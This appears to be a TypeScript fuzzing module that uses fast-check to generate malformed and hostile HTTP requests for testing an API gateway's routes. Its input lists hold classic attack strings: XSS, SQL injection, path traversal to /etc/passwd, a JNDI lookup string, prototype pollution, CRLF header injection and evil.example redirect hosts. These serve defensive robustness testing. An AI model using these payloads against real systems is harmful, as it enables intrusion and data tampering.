import fc from 'fast-check';

/** One request as sent to the gateway's `inject`: raw path and query, headers, raw body. */
export interface HostileRequest {
  method: string;
  url: string;
  headers: Record<string, string>;
  payload?: string;
}

export type Method = 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE' | 'OPTIONS' | 'HEAD';
export type Fields = Record<string, fc.Arbitrary<string>>;
export type Pairs = [name: string, value: string][];

/** A public route and what it reads, so generated requests reach its checks, not only the router's. */
export interface RouteSpec {
  name: string;
  methods: Method[];
  /** Concrete paths (already percent-encoded), e.g. with a real or a hostile identifier. */
  path: fc.Arbitrary<string>;
  /** Query parameters it reads, each with values worth trying. */
  query?: Fields;
  /** A valid query, of which most generated queries change a field or two. */
  validQuery?: fc.Arbitrary<Pairs>;
  /** Body members it reads: a form (OAuth endpoints, hosted pages) or JSON (APIs), and a valid body. */
  body?:
    | { type: 'form'; fields: Fields; valid?: fc.Arbitrary<Pairs> }
    | { type: 'json'; fields: Fields; valid?: fc.Arbitrary<Record<string, unknown>> };
  /** Credentials and other headers worth sending (Authorization, Cookie, X-CSRF-Token). */
  headers?: fc.Arbitrary<Record<string, string>>;
  /** Generated requests per run of the suite. */
  numRuns: number;
}

/** Strings that broke parsers, databases, templates and URL handling somewhere before. */
const TRICKY = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '%00',
  '\r\nSet-Cookie: injected=1',
  '\t\n\v\f\r',
  '\u001b[31m',
  '\u0085\u2028\u2029',
  '\u202eevil',
  '\ud800',
  '\udfff\ud800',
  '\uffff\ufffe',
  'A\u030a',
  '\ufb00',
  'İı',
  'Straße',
  '😀'.repeat(40),
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR '1'='1",
  '"; DROP TABLE users; --',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  'prototype',
  '${jndi:ldap://x.example/a}',
  '{{7*7}}',
  '%',
  '%zz',
  '%E0%A4%A',
  '%ED%A0%80',
  '+',
  '=&=&',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '-1',
  '1e309',
  'NaN',
  '0x41',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'https://evil.example/callback',
  '//evil.example',
  'http://127.0.0.1:1/x',
  'a'.repeat(300),
  'a'.repeat(5000),
  '0'.repeat(64),
  'f'.repeat(64),
  '00000000-0000-0000-0000-000000000000',
] as const;

/** Printable ASCII and Latin-1 and tabs: what a header field value may carry (RFC 9110 5.5). */
const headerChar = fc.oneof(
  fc.integer({ min: 0x20, max: 0x7e }),
  fc.integer({ min: 0xa0, max: 0xff }),
  fc.constant(0x09),
);
export const headerValue = fc.string({
  unit: headerChar.map((code) => String.fromCharCode(code)),
  maxLength: 60,
});

const controlChar = fc.integer({ min: 0, max: 0x1f }).map((code) => String.fromCharCode(code));

/** Any text: random Unicode, lone surrogates, control characters, and the known-tricky ones. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: controlChar, maxLength: 8 }) },
  {
    weight: 1,
    arbitrary: fc
      .array(fc.oneof(fc.integer({ min: 0xd800, max: 0xdfff }), fc.integer({ min: 0, max: 0xffff })), {
        maxLength: 8,
      })
      .map((units) => String.fromCharCode(...units)),
  },
  { weight: 4, arbitrary: fc.constantFrom(...TRICKY) },
);

/** A field's value: one worth trying for it (weighted), or anything. */
export function field(...worthTrying: (string | fc.Arbitrary<string>)[]): fc.Arbitrary<string> {
  const values = worthTrying.map((value) => (typeof value === 'string' ? fc.constant(value) : value));
  return values.length === 0
    ? hostileString
    : fc.oneof({ weight: 3, arbitrary: fc.oneof(...values) }, hostileString);
}

/** Ordered name/value pairs: some of the route's fields, a field twice (RFC 6749 3.1), unknown ones. */
function fieldPairs(fields: Fields): fc.Arbitrary<[string, string][]> {
  const names = Object.keys(fields);
  const pair = (name: string) => fields[name]!.map((value): [string, string] => [name, value]);
  const known =
    names.length === 0
      ? fc.constant([])
      : fc.subarray(names).chain((chosen) => fc.tuple(...chosen.map(pair)));
  const repeated =
    names.length === 0 ? fc.constant([]) : fc.array(fc.constantFrom(...names).chain(pair), { maxLength: 2 });
  const unknown = fc.array(fc.tuple(fc.oneof(hostileString, fc.constantFrom(...names, 'x')), hostileString), {
    maxLength: 2,
  });
  return fc.tuple(known, repeated, unknown).map(([a, b, c]) => [...a, ...b, ...c]);
}

/** Raw text that is not a well-formed query or form: bad escapes, odd separators, bracket syntax. */
const formGarbage = fc.oneof(
  fc.constantFrom('%', '%zz', '%E0%A4%A', 'a=%ff%fe', '&&&', '=', '==&==', '+%2B+', ';a=b', 'a[]=1&a[b]=2'),
  fc.constantFrom('__proto__[polluted]=1', 'constructor[prototype][polluted]=1', 'a=' + '%41'.repeat(2000)),
  fc.string({ unit: 'binary-ascii', maxLength: 40 }),
);

function encodedPairs(fields: Fields, valid?: fc.Arbitrary<Pairs>): fc.Arbitrary<string> {
  const encode = (pairs: Pairs) => new URLSearchParams(pairs).toString();
  return fc.oneof(
    { weight: 3, arbitrary: fieldPairs(fields).map(encode) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fieldPairs(fields), formGarbage)
        .map(([pairs, garbage]) => [encode(pairs), garbage].filter(Boolean).join('&')),
    },
    ...(valid === undefined ? [] : [{ weight: 6, arbitrary: mutatedPairs(valid).map(encode) }]),
  );
}

/** Characters that break storage, rendering or parsing when they slip into an otherwise valid value. */
const spoiler = fc.oneof(
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      '\u0000',
      '\ud800',
      '\u001b',
      '\r\n',
      '\u202e',
      '<script>',
      '"\'\\',
      '%00',
      'a'.repeat(3000),
    ),
  },
  { weight: 3, arbitrary: hostileString },
);

/** One change to a valid request: a hostile value, hostile text added, a field dropped, doubled or unknown. */
const edit = fc.record({
  kind: fc.constantFrom('replace', 'append', 'insert', 'drop', 'repeat', 'unknown'),
  at: fc.nat(),
  value: spoiler,
});

/** A valid form or query with one or two edits, so most requests reach the deepest checks. */
function mutatedPairs(valid: fc.Arbitrary<Pairs>): fc.Arbitrary<Pairs> {
  return fc.tuple(valid, fc.array(edit, { minLength: 1, maxLength: 2 })).map(([original, edits]) => {
    const pairs = original.map(([name, value]): [string, string] => [name, value]);
    for (const { kind, at, value } of edits) {
      if (pairs.length === 0) break;
      const index = at % pairs.length;
      const [name, current] = pairs[index]!;
      if (kind === 'replace') pairs[index] = [name, value];
      else if (kind === 'append') pairs[index] = [name, current + value];
      else if (kind === 'insert') pairs[index] = [name, current.slice(0, 1) + value + current.slice(1)];
      else if (kind === 'drop') pairs.splice(index, 1);
      else if (kind === 'repeat') pairs.push([name, value]);
      else pairs.push([value, value]);
    }
    return pairs;
  });
}

/** A JSON value where a valid one was: hostile text, the wrong type, or the valid one spoiled. */
const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
  { weight: 1, arbitrary: fc.constantFrom(null, true, 0, -1, 1e308, 2 ** 53 + 1, [], {}, [[]], ['']) },
);

function spoil(current: unknown, kind: string, value: string, replacement: unknown): unknown {
  if (kind === 'append' && typeof current === 'string') return current + value;
  if (kind === 'insert' && typeof current === 'string') return current.slice(0, 1) + value + current.slice(1);
  if (kind === 'append' && Array.isArray(current)) return [...(current as unknown[]), value];
  if (kind === 'insert' && Array.isArray(current)) return current.map((item) => `${String(item)}${value}`);
  return replacement;
}

/** A valid JSON body with one or two members spoiled, dropped or added. */
function mutatedJson(valid: fc.Arbitrary<Record<string, unknown>>): fc.Arbitrary<string> {
  return fc
    .tuple(valid, fc.array(fc.tuple(edit, hostileJson), { minLength: 1, maxLength: 2 }))
    .map(([original, edits]) => {
      const body: Record<string, unknown> = { ...original };
      const keys = Object.keys(original);
      for (const [{ kind, at, value }, replacement] of edits) {
        const key = keys[at % keys.length]!;
        if (kind === 'drop') delete body[key];
        else if (kind === 'unknown') body[value] = replacement;
        else body[key] = spoil(body[key], kind, value, replacement);
      }
      return JSON.stringify(body);
    });
}

/** A JSON member's value: worth trying, anything, or the wrong JSON type. */
function jsonMember(value: fc.Arbitrary<string>): fc.Arbitrary<unknown> {
  return fc.oneof(
    { weight: 4, arbitrary: value },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }) },
    { weight: 1, arbitrary: fc.array(value, { maxLength: 3 }) },
  );
}

/** JSON text that JSON.parse refuses or that is hostile to what walks it next. */
const jsonGarbage = fc.oneof(
  fc.constantFrom(
    '',
    '{',
    '{"a":',
    '{"a":1,}',
    '[1,2',
    "{'a':1}",
    '{"a":NaN}',
    '{"a":1}/* comment */',
    '\ufeff{}',
    '{"__proto__":{"polluted":true}}',
    '{"constructor":{"prototype":{"polluted":true}}}',
    '{"a":"\\ud800"}',
    '{"a":"\\u0000"}',
    '{"email":"a@b.example","email":"c@d.example"}',
    '1'.repeat(400),
    '"' + 'a'.repeat(2000) + '"',
  ),
  fc.integer({ min: 30, max: 20_000 }).map((depth) => '['.repeat(depth) + ']'.repeat(depth)),
  fc.integer({ min: 30, max: 5_000 }).map((depth) => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth)),
  fc.string({ maxLength: 40 }),
);

function jsonBody(fields: Fields, valid?: fc.Arbitrary<Record<string, unknown>>): fc.Arbitrary<string> {
  const members = Object.fromEntries(
    Object.entries(fields).map(([name, value]) => [name, jsonMember(value)]),
  ) as Record<string, fc.Arbitrary<unknown>>;
  return fc.oneof(
    {
      weight: 4,
      arbitrary: fc
        .tuple(
          fc.record(members, { requiredKeys: [] }),
          fc.dictionary(hostileString, fc.jsonValue({ maxDepth: 2 }), { maxKeys: 2 }),
        )
        .map(([known, extra]) => JSON.stringify({ ...extra, ...known })),
    },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }).map((value) => JSON.stringify(value)) },
    { weight: 2, arbitrary: jsonGarbage },
    ...(valid === undefined ? [] : [{ weight: 6, arbitrary: mutatedJson(valid) }]),
  );
}

const CONTENT_TYPES = {
  form: 'application/x-www-form-urlencoded',
  json: 'application/json',
} as const;

/** The right type most of the time, else a wrong, odd or malformed one (or none). */
function contentType(type: 'form' | 'json' | undefined): fc.Arbitrary<string | undefined> {
  const wrong = fc.constantFrom(
    undefined,
    'text/plain',
    'multipart/form-data; boundary=x',
    'application/xml',
    'application/json; charset=utf-16',
    'application/x-www-form-urlencoded; charset=iso-8859-1',
    'application/json',
    'application/x-www-form-urlencoded',
    'APPLICATION/JSON',
    'application/jsonx',
    'application/*',
    ';;;',
  );
  const odd = headerValue;
  if (type === undefined) return fc.oneof({ weight: 3, arbitrary: wrong }, { weight: 1, arbitrary: odd });
  return fc.oneof(
    { weight: 6, arbitrary: fc.constant(CONTENT_TYPES[type]) },
    { weight: 2, arbitrary: wrong },
    { weight: 1, arbitrary: odd },
  );
}

/** Headers nobody should trust or choke on. */
const noiseHeaders: fc.Arbitrary<Record<string, string>> = fc.record(
  {
    'x-request-id': headerValue,
    'x-forwarded-for': fc.oneof(headerValue, fc.constant('203.0.113.7, 10.0.0.1')),
    'x-forwarded-proto': fc.constantFrom('https', 'http', 'gopher', ''),
    'x-forwarded-host': fc.oneof(headerValue, fc.constant('evil.example')),
    accept: fc.oneof(headerValue, fc.constantFrom('text/html', 'application/json', '*/*')),
    origin: fc.oneof(headerValue, fc.constant('https://evil.example')),
    'user-agent': headerValue,
    cookie: fc.oneof(headerValue, fc.constant('a=b; a=c; =; ;;')),
    authorization: fc.oneof(
      headerValue,
      fc.constantFrom('Bearer', 'Bearer ', 'Basic', 'Basic ====', 'Basic Og==', 'Digest x', 'Bearer a b'),
      headerValue.map((value) => `Basic ${Buffer.from(value, 'latin1').toString('base64')}`),
    ),
  },
  { requiredKeys: [] },
);

export interface RequestOptions {
  /** Largest body the gateway accepts: the oversized bodies go just past it. */
  bodyLimit: number;
}

/** Requests aimed at `route`: mostly its own method, path, fields and credentials, each hostile in turn. */
export function hostileRequests(
  route: RouteSpec,
  { bodyLimit }: RequestOptions,
): fc.Arbitrary<HostileRequest> {
  const method = fc.oneof(
    { weight: 8, arbitrary: fc.constantFrom(...route.methods) },
    {
      weight: 1,
      arbitrary: fc.constantFrom<Method>('GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD'),
    },
  );
  const query = fc.oneof(
    { weight: 2, arbitrary: fc.constant('') },
    { weight: 3, arbitrary: encodedPairs(route.query ?? {}, route.validQuery) },
  );
  const bodyType = route.body?.type;
  const fields = route.body?.fields ?? {};
  const own =
    route.body?.type === 'json'
      ? jsonBody(fields, route.body.valid)
      : encodedPairs(fields, route.body?.type === 'form' ? route.body.valid : undefined);
  const other = route.body?.type === 'json' ? encodedPairs(fields) : jsonBody(fields);
  // Its own body type mostly, the other one too: the content type may say either (below).
  const body: fc.Arbitrary<string | undefined> = fc.oneof(
    { weight: 2, arbitrary: fc.constant(undefined) },
    { weight: 12, arbitrary: own },
    { weight: 4, arbitrary: other },
    // Past the limit: 413 before anything reads it.
    {
      weight: 1,
      arbitrary: fc.integer({ min: 1, max: 1024 }).map((extra) => 'a='.padEnd(bodyLimit + extra, 'a')),
    },
  );
  return fc
    .record({
      method,
      path: route.path,
      query,
      body,
      type: contentType(bodyType),
      credentials: route.headers ?? fc.constant({}),
      noise: noiseHeaders,
    })
    .map(({ method: verb, path, query: search, body: payload, type, credentials, noise }) => {
      const headers: Record<string, string> = { ...noise, ...credentials };
      if (type !== undefined && payload !== undefined) headers['content-type'] = type;
      return {
        method: verb,
        url: search === '' ? path : `${path}?${search}`,
        headers,
        ...(payload === undefined || verb === 'GET' || verb === 'HEAD' ? {} : { payload }),
      };
    });
}

/** A path segment: a value worth trying (percent-encoded as a browser would) or hostile text. */
export function segment(...worthTrying: string[]): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...worthTrying) },
    { weight: 2, arbitrary: hostileString.map((value) => percentEncode(value).slice(0, 300)) },
    { weight: 1, arbitrary: fc.constantFrom('%zz', '%E0%A4%A', '..', '.', '%2e%2e', '%2F', 'a'.repeat(150)) },
  );
}

/** The path as given, or with a trailing slash, a doubled slash or other case. */
export function pathVariants(path: fc.Arbitrary<string>): fc.Arbitrary<string> {
  return fc
    .tuple(path, fc.constantFrom('as-is', 'as-is', 'as-is', 'slash', 'double', 'upper'))
    .map(([value, variant]) => {
      if (variant === 'slash') return `${value}/`;
      if (variant === 'double') return value.replace('/', '//');
      if (variant === 'upper') return value.toUpperCase();
      return value;
    });
}

/** Every byte of the UTF-8 form but the unreserved ones as %XX (lone surrogates become U+FFFD). */
export function percentEncode(value: string): string {
  return [...Buffer.from(value, 'utf8')]
    .map((byte) => {
      const char = String.fromCharCode(byte);
      return /[A-Za-z0-9\-._~]/.test(char) ? char : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
    })
    .join('');
}
